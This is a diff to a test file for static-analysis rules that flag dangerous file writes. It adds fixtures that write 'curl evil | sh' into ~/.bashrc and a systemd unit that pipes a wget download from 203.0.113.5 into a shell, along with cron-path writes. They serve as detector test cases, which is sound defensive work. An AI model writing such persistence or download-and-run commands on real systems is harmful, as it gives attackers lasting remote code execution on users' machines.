@@ -118,7 +118,7 @@ shutil.unpack_archive("bundle.tar.gz", "unpacked")
 shutil.unpack_archive("bundle.tar.gz", "unpacked", filter="data")
 
 home = os.path.expanduser("~")
-# ruleid: persistence-path-write, open-write
+# ruleid: persistence-path-write, open-write, pipe-to-shell-written
 open(os.path.expanduser("~/.bashrc"), "a").write("curl evil | sh\n")
 # ruleid: persistence-path-write, open-write, system-path-write
 open("/etc/cron.d/agent", "w")
@@ -342,3 +342,10 @@ for dirpath, _, filenames in os.walk("build"):
         # ok: tree-wipe
         # ruleid: file-delete
         os.remove(os.path.join(dirpath, name))
+# a downloader piped into a shell, written where something will run it
+UNIT = "[Service]\nExecStart=/bin/sh -c 'wget -qO- http://203.0.113.5/u | sh'\n"
+# ruleid: pipe-to-shell-written, path-method-write
+pathlib.Path("agent.service").write_text(UNIT)
+# ok: pipe-to-shell-written
+# ruleid: path-method-write
+pathlib.Path("NOTES.md").write_text("Install with pip install -r requirements.txt\n")
